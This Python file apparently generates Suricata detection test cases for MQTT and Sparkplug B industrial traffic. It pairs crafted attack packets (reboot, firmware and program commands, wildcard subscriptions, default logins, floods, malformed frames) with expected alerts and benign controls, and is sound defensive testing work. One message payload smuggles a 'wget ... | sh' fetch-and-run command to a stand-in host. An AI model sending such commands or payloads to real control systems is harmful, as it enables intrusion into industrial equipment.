"""Cases of MQTT: packets as the specification lays them out, and paho-mqtt with mosquitto."""

import struct
from collections.abc import Sequence

from scapy.packet import Packet
from tests.suricata import themes
from tests.suricata.makers.wire import ATTACKER, HMI, PLC, C, Exchange, S, case, merged, tcp

PORT = 1883

NCMD, DCMD, REBOOT, REBIRTH, NEXT, DEATH, OFFLINE = range(1928001, 1928008)
COMMAND, BURST, MODE, RESTART, CONFIG, MUTE, LIMIT, FIRMWARE, PROGRAM = range(1928010, 1928019)
CONTROL, STATE, JOIN, SHELL, ELF, UNRETAIN, EXE = range(1928019, 1928026)
ALL_TOPICS, SYS, SPARKPLUG, OTHERS, LEVELS, MANY, TOOL, BROWSER = range(1928040, 1928048)
LOGIN, DEFAULT, REFUSED, TAKEN = range(1928060, 1928064)
DOUBLE, MALFORMED, TYPE, QOS, CONNECTS, FLOOD, CONNECTIONS, LONG = range(1928080, 1928088)
ALL_SIDS = [
    *range(NCMD, OFFLINE + 1),
    *range(COMMAND, EXE + 1),
    *range(ALL_TOPICS, BROWSER + 1),
    *range(LOGIN, TAKEN + 1),
    *range(DOUBLE, LONG + 1),
]


def packet(head: int, body: bytes) -> bytes:
    """A control packet: type and flags, remaining length, body."""
    size, length = len(body), b""
    while True:
        size, low = divmod(size, 128)
        length += bytes([low | 0x80 if size else low])
        if not size:
            return bytes([head]) + length + body


def text(value: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    return struct.pack("!H", len(raw)) + raw


def connect(client: str = "hmi-1", user: str = "", password: str = "", level: int = 4) -> bytes:
    flags = 2 | (0xC0 if user else 0)
    body = (
        text("MQTT") + bytes([level, flags, 0, 60]) + (b"\0" if level == 5 else b"") + text(client)
    )
    return packet(0x10, body + (text(user) + text(password) if user else b""))


def publish(topic: str, message: bytes = b"1", head: int = 0x30) -> bytes:
    number = b"\0\1" if head & 0x06 else b""
    return packet(head, text(topic) + number + message)


def subscribe(topic: str) -> bytes:
    return packet(0x82, b"\0\1" + text(topic) + b"\0")


CONNACK = bytes.fromhex("20020000")
BAD_PASSWORD = bytes.fromhex("20020004")
SUBACK = bytes.fromhex("9003000100")
PING, PONG = b"\xc0\0", b"\xd0\0"
VALUE = publish("plant/line1/temperature", b"21.5")
SPARK = publish("spBv1.0/plant/DDATA/node1/dev1", bytes.fromhex("08a0d6b0b6dd3112060a0474656d70"))

# recorded between paho-mqtt 2 and mosquitto 2 (subscribe and publish by name)
LAB: Exchange = [
    (C, bytes.fromhex("101100044d5154540402003c0005686d692d31")),
    (S, bytes.fromhex("20020000")),
    (C, bytes.fromhex("82120001000d706c616e742f6c696e65312f2301")),
    (S, bytes.fromhex("9003000101")),
    (C, bytes.fromhex("321f0017706c616e742f6c696e65312f74656d7065726174757265000232312e35")),
    (S, bytes.fromhex("321f0017706c616e742f6c696e65312f74656d7065726174757265000132312e35")),
    (S, bytes.fromhex("40020002")),
    (C, bytes.fromhex("40020001")),
    (C, bytes.fromhex("321f0017706c616e742f6c696e65312f74656d7065726174757265000332312e36")),
    (S, bytes.fromhex("321f0017706c616e742f6c696e65312f74656d7065726174757265000232312e36")),
    (C, bytes.fromhex("40020002")),
    (S, bytes.fromhex("40020003")),
    (C, bytes.fromhex("30190014706c616e742f6c696e65312f7072657373757265342e32")),
    (S, bytes.fromhex("30190014706c616e742f6c696e65312f7072657373757265342e32")),
    (C, bytes.fromhex("e000")),
]


def answer(payload: bytes) -> Exchange:
    """The SUBACK of a subscription: Suricata 7.0 looks at a SUBSCRIBE only when it has come."""
    return [(S, SUBACK)] if payload[0] == 0x82 else []


def session(payloads: Sequence[bytes]) -> list[Packet]:
    """One session: connect, then each packet with a ping between."""
    exchange: Exchange = [(C, connect()), (S, CONNACK)]
    for payload in payloads:
        exchange = [*exchange, (C, payload), *answer(payload), (C, PING), (S, PONG)]
    return tcp(ATTACKER, PLC, PORT, exchange, step=0.02)


def sessions(payloads: Sequence[bytes], answer: bytes = CONNACK) -> list[Packet]:
    """A session for each packet."""
    return merged(
        *(
            tcp(ATTACKER, PLC, PORT, [(C, p), (S, answer)], sport=50000 + n, start=n / 5)
            for n, p in enumerate(payloads)
        )
    )


def often(payload: bytes, times: int, seconds: float) -> list[Packet]:
    exchange = [(C, connect()), (S, CONNACK), *[(C, payload), *answer(payload)] * times]
    return tcp(ATTACKER, PLC, PORT, exchange, step=seconds / times / 2)


def _sparkplug() -> None:
    group = "spBv1.0/plant/"
    reboot = b"\x12\x19\x0a\x13Node Control/Reboot\x20\x0b\x70\x01"
    themes.pair(
        "mqtt-sparkplug",
        "Commands of Sparkplug B, deaths and an application offline.",
        [
            (publish(group + "NCMD/node1", reboot), {NCMD, REBOOT}),
            (publish(group + "DCMD/node1/dev1", b"\x12\x06\x0a\x04SP_1"), {DCMD}),
            (
                publish(
                    group + "NCMD/node1",
                    reboot.replace(b"\x19\x0a\x13", b"\x1a\x0a\x14").replace(b"Reboot", b"Rebirth"),
                ),
                {REBIRTH},
            ),
            (
                publish(
                    group + "NCMD/node1",
                    reboot.replace(b"\x19\x0a\x13", b"\x1e\x0a\x18").replace(
                        b"Reboot", b"Next Server"
                    ),
                ),
                {NEXT},
            ),
            (publish(group + "DDEATH/node1/dev1", b"\x18\x01"), {DEATH}),
            (publish("spBv1.0/STATE/scada", b'{"online": false, "timestamp": 1}'), {OFFLINE}),
        ],
        [
            SPARK,
            publish(group + "NBIRTH/node1", reboot),
            publish(group + "DBIRTH/node1/dev1", b"\x18\x01"),
            publish("spBv1.0/STATE/scada", b'{"online": true, "timestamp": 1}'),
            publish("notes/NCMD", b"text"),
        ],
        session,
    )


def _topics() -> None:
    themes.pair(
        "mqtt-topics",
        "Commands told by the levels of the topic.",
        [
            (publish("plant/pump1/set", b"ON"), {COMMAND}),
            (publish("plant/pump1/stop"), {MODE}),
            (publish("plant/rtu4/reboot"), {RESTART}),
            (publish("plant/rtu4/config/write", b"{}"), {CONFIG}),
            (publish("plant/alarms/7/ack"), {MUTE}),
            (publish("plant/tank/limit/high", b"99"), {LIMIT}),
            (publish("plant/rtu4/firmware/update", b"http://10.10.10.66/x.bin"), {FIRMWARE}),
            (publish("plant/plc1/program/download", b"01"), {PROGRAM}),
            (publish("$CONTROL/dynamic-security/v1", b"{}"), {CONTROL}),
            (publish("$SYS/broker/uptime"), {STATE}),
            (publish("zigbee2mqtt/bridge/request/permit_join", b"true"), {JOIN}),
            (publish("plant/tank/limits", b"", 0x31), {UNRETAIN}),
        ],
        [
            VALUE,
            publish("plant/pump1/offset"),
            publish("plant/pump1/settle"),
            publish("plant/rtu4/firmware/version"),
            publish("plant/alarms/7/active"),
            publish("plant/tank/delimiter/highway"),
            publish("plant/rtu4/config/state"),
            publish("plant/plc1/program/name"),
            publish("plant/rtu4/rebooted"),
            publish("zigbee2mqtt/bridge/state"),
            publish("plant/tank/limits", b"80", 0x31),
            publish("plant/$CONTROLS"),
        ],
        session,
    )
    themes.pair(
        "mqtt-messages",
        "Shell commands and executable files as messages.",
        [
            (publish("plant/note", b"1; wget http://10.10.10.66/a -O- | sh "), {SHELL}),
            (publish("plant/blob", b"\x7fELF\x01\x01\x01" + bytes(60)), {ELF}),
            (publish("plant/blob", b"MZ" + bytes(76) + b"This program cannot be run in"), {EXE}),
        ],
        [
            publish("plant/note", b"shift 1; what a day"),
            publish("plant/blob", b"elf \x7fELF"),
            publish("plant/blob", b"MZ is a name"),
        ],
        session,
    )
    burst = often(publish("plant/pump1/set"), 30, 3)
    case("mqtt-burst", "Thirty commands in 3 s.", burst, {COMMAND: 1, BURST: 1})
    few = often(publish("plant/pump1/set"), 5, 3)
    case("mqtt-commands", "Five commands.", few, {COMMAND: 1}, [BURST])


def _reconnaissance() -> None:
    themes.pair(
        "mqtt-subscribe",
        "Everything subscribed to.",
        [
            (subscribe("#"), {ALL_TOPICS}),
            (subscribe("$SYS/#"), {SYS}),
            (subscribe("spBv1.0/#"), {SPARKPLUG}),
            (subscribe("+/+/NCMD/+"), {OTHERS}),
            (subscribe("plant/+/+/#"), {LEVELS}),
        ],
        [
            subscribe("plant/line1/#"),
            subscribe("plant/line1/+/temperature"),
            subscribe("spBv1.0/plant/NCMD/node1"),
            subscribe("spBv1.0/plant/DDATA/node1/#"),
            subscribe("plant/$SYSTEM"),
            VALUE,
        ],
        session,
    )
    case("mqtt-subscriptions", "120 in 6 s.", often(subscribe("plant/a"), 120, 6), {MANY: 1})
    case("mqtt-subscriptions-few", "Ten.", often(subscribe("plant/a"), 10, 6), {}, [MANY])
    themes.pair(
        "mqtt-connect",
        "Logins and names of tools.",
        [
            (connect("hmi-2", "maria", "Tz7!kk"), {LOGIN}),
            (connect("hmi-2", "maria", "admin"), {DEFAULT}),
            (connect("nmap"), {TOOL}),
            (connect("MQTT-Explorer-1a2b"), {BROWSER}),
        ],
        [connect(), connect("gateway-17"), connect("hmi-3", level=5)],
        sessions,
    )
    own = sessions([connect("hmi-2", "maria", "Tz7!kk")])
    case("mqtt-password", "A password of its own.", own, {LOGIN: 1}, [DEFAULT])
    refused = sessions([connect("hmi-2")] * 6, BAD_PASSWORD)
    case("mqtt-refused", "Six logins refused.", refused, {REFUSED: 1})
    refused5 = sessions([connect("hmi-2", level=5)] * 6, bytes.fromhex("2003008600"))
    case("mqtt-refused-5", "Six logins refused (version 5).", refused5, {REFUSED: 1})
    case("mqtt-refused-once", "One.", sessions([connect()], BAD_PASSWORD), {}, [REFUSED])
    hello: Exchange = [(C, connect(level=5)), (S, bytes.fromhex("2003000000"))]
    taken = tcp(HMI, PLC, PORT, [*hello, (S, bytes.fromhex("e0028e00"))])
    case("mqtt-taken", "The session taken over.", taken, {TAKEN: 1})
    closed = tcp(HMI, PLC, PORT, [*hello, (S, bytes.fromhex("e0028b00"))])
    case("mqtt-closed", "The broker shuts down.", closed, {}, [TAKEN])


def _malformed() -> None:
    case("mqtt-double", "Two CONNECT.", session([connect()]), {DOUBLE: 1})
    case("mqtt-type", "Type 0.", session([b"\x00\x02\x00\x01"]), {TYPE: 1})
    case("mqtt-qos", "Quality of service 3.", session([publish("plant/a", b"1", 0x36)]), {QOS: 1})
    bad = session([packet(0x82, b"\0\1\0\xffabc")])
    case("mqtt-malformed", "A subscribe cut short.", bad, {MALFORMED: 1})
    right = session([VALUE, subscribe("plant/a"), PING])
    case("mqtt-well-formed", "None of it.", right, {}, [DOUBLE, TYPE, QOS, MALFORMED, LONG])
    storm = merged(
        *(
            tcp(ATTACKER, PLC, PORT, [(C, connect())], sport=50000 + n, start=n / 10)
            for n in range(60)
        )
    )
    case("mqtt-connect-flood", "Sixty CONNECT in 6 s.", storm, {CONNECTS: 1})
    case("mqtt-connect-some", "Ten.", sessions([connect()] * 10), {}, [CONNECTS, CONNECTIONS])
    flood = often(publish("a/b"), 550, 4)
    case("mqtt-flood", "550 publishes in 4 s.", flood, {FLOOD: 1})
    syns = [
        tcp(ATTACKER, PLC, PORT, [], sport=51000 + n, start=n / 50, close=False)[0]
        for n in range(120)
    ]
    case("mqtt-connections", "120 connections in 2.4 s.", syns, {CONNECTIONS: 1})
    case("mqtt-long", "A topic of 5,000.", session([publish("a" * 5000)]), {LONG: 1})


def _transport() -> None:
    stop, alerts = publish("plant/rtu4/reboot"), {RESTART: 1}
    talk: Exchange = [(C, connect()), (S, CONNACK), (C, VALUE), (C, stop), (C, VALUE)]
    case("mqtt-split", "In segments of 7 octets.", tcp(HMI, PLC, PORT, talk, split=7), alerts)
    case("mqtt-coalesced", "Behind a value.", tcp(HMI, PLC, PORT, talk, coalesce=True), alerts)
    late: Exchange = [(C, VALUE), (C, stop), (C, VALUE)]
    case("mqtt-midstream", "Joined.", tcp(HMI, PLC, PORT, late, midstream=True), alerts)
    server = tcp(HMI, PLC, PORT, [(S, VALUE), *late], midstream=True)
    case("mqtt-midstream-server", "Joined, the broker speaks first.", server, alerts)
    case("mqtt-vlan", "In a VLAN.", tcp(HMI, PLC, PORT, talk, vlan=30), alerts)


def _benign() -> None:
    opening: Exchange = [(C, connect()), (S, CONNACK), (C, subscribe("plant/line1/#")), (S, SUBACK)]
    cycle = [(C, VALUE), (S, SPARK), (C, PING), (S, PONG)]
    polling = tcp(HMI, PLC, PORT, [*opening, *cycle * 30], step=0.1)
    case("mqtt-polling", "Values published.", polling, {}, ALL_SIDS)
    case("mqtt-lab", "paho-mqtt and mosquitto.", tcp(HMI, PLC, PORT, LAB), {}, ALL_SIDS, "lab")
    junk = [b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01" + bytes(80)]
    other = tcp(HMI, PLC, PORT, [(C, payload) for payload in junk])
    case("mqtt-others", "Other protocols on the port.", other, {}, ALL_SIDS)


def make() -> None:
    """Write the cases of MQTT."""
    _sparkplug()
    _topics()
    _reconnaissance()
    _malformed()
    _transport()
    _benign()
